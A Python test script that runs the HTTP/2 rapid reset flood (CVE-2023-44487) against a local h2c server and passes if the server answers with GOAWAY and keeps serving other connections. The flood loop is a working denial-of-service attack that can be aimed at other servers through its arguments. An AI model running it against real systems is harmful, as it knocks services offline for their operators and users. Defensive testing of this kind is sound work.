#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against an h2c listener.

Opens a connection and sends HEADERS (a complete GET) followed at once by
RST_STREAM(CANCEL), stream after stream, without waiting for anything. A
defended server answers with GOAWAY (ENHANCE_YOUR_CALM or PROTOCOL_ERROR) and
closes the socket long before --max-streams. A bystander connection, opened
before the flood, and a fresh connection after it must both get 200.

Prints one JSON line with what happened; exits 0 when the server sent the
flood away in time and kept serving, 1 otherwise.

Usage: h2_rapid_reset.py --port PORT --authority shop.test
"""

import argparse
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions

from h2_attack_common import FrameReader, connect, get_status, report

ACCEPTED_ERRORS = ("ENHANCE_YOUR_CALM", "PROTOCOL_ERROR")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--authority", required=True)
    parser.add_argument("--max-streams", type=int, default=100_000)
    parser.add_argument("--timeout", type=float, default=10.0)
    args = parser.parse_args()

    bystander = connect(args.host, args.port)
    sock = connect(args.host, args.port)
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    # The server's frames are read raw: a state machine would choke on
    # answers to streams it already forgot.
    reader = FrameReader(sock)
    headers = [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", args.authority),
        (":path", "/"),
    ]
    started = time.monotonic()
    streams = 0
    bytes_sent = 0
    send_error = None
    stream_id = 1
    while streams < args.max_streams and time.monotonic() - started < args.timeout:
        try:
            for _ in range(50):
                conn.send_headers(stream_id, headers, end_stream=True)
                conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
                stream_id += 2
                streams += 1
        except h2.exceptions.H2Error as error:
            send_error = "h2: %r" % error
            break
        data = conn.data_to_send()
        try:
            sock.sendall(data)
            bytes_sent += len(data)
        except OSError as error:
            send_error = "socket: %s" % error
            break
        reader.poll()
        if reader.goaway or reader.closed:
            break
    # A GOAWAY may still be on its way, or sitting unread behind a failed send.
    reader.poll(0.5)
    if reader.goaway:
        reader.wait_closed(5.0)
    elapsed = time.monotonic() - started

    during = get_status(args.host, args.port, args.authority, sock=bystander)
    after = get_status(args.host, args.port, args.authority)

    goaway_error = reader.goaway[1] if reader.goaway else None
    # The server writes GOAWAY and closes. A client still writing can hit the
    # closed socket (EPIPE/ECONNRESET), and a reset discards the unread
    # GOAWAY; the server sent the flood away either way.
    sent_away = reader.closed is not None and (
        goaway_error in ACCEPTED_ERRORS
        or (goaway_error is None and (reader.closed.startswith("reset") or send_error))
    )
    result = {
        "attack": "rapid_reset",
        "streams": streams,
        "bytes_sent": bytes_sent,
        "seconds": round(elapsed, 3),
        "goaway": goaway_error,
        "goaway_last_stream": reader.goaway[0] if reader.goaway else None,
        "closed": reader.closed,
        "send_error": send_error,
        "frames_received": {str(k): v for k, v in sorted(reader.frames.items())},
        "bystander_status": during,
        "after_status": after,
    }
    ok = (
        sent_away
        and streams < args.max_streams
        and elapsed < args.timeout
        and during == 200
        and after == 200
    )
    report(result, ok)


if __name__ == "__main__":
    main()
